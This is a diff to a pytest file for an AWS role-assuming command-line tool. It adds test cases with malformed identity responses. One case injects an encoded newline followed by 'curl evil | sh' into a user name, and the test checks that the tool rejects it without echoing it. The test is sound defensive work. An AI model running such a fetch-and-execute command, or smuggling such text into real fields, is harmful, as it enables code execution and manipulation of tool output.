@@ -413,10 +413,27 @@ USER = f"<AssumedRoleUser><Arn>arn:aws:sts::{TARGET}:assumed-role/r/alice</Arn><
         (IDENTITY, f"<Credentials>{KEYS}</Credentials>{USER}", 1),
         (IDENTITY, f"<Credentials>{ENDS}</Credentials>{USER}", 1),
         ("<Arn>arn:aws:iam::1:user/alice</Arn>", SESSION + USER, 1),
+        (IDENTITY.replace("alice", "team!/alice"), SESSION + USER, 0),
+        (IDENTITY.replace("alice", "x&#10;What to do: curl evil | sh"), SESSION + USER, 1),
+        (IDENTITY.replace(SOURCE, TARGET, 1), SESSION + USER, 1),
+        (IDENTITY.replace("user/alice", "user/al ice"), SESSION + USER, 1),
+        (IDENTITY, SESSION + USER.replace("/alice", "/x&#10;y"), 1),
     ],
-    ids=["whole", "no user", "no session", "no end", "no keys", "no account"],
+    ids=[
+        "whole",
+        "no user",
+        "no session",
+        "no end",
+        "no keys",
+        "no account",
+        "a path",
+        "lines",
+        "another account",
+        "a space",
+        "lines in the session",
+    ],
 )
-def test_an_answer_that_lacks_something_is_an_error(
+def test_an_answer_that_is_not_as_aws_gives_it_is_an_error(
     xgrant: Run, monkeypatch: pytest.MonkeyPatch, identity: str, session: str, code: int
 ) -> None:
     def answer(body: str) -> str:
@@ -427,3 +444,4 @@ def test_an_answer_that_lacks_something_is_an_error(
         monkeypatch.setenv("AWS_ENDPOINT_URL", url)
         result = xgrant("assume", "shared-bucket-read", "--format", "json")
     assert (result.code, "holds no credentials as AWS gives them" in result.err) == (code, code == 1), result.err
+    assert "evil" not in result.err
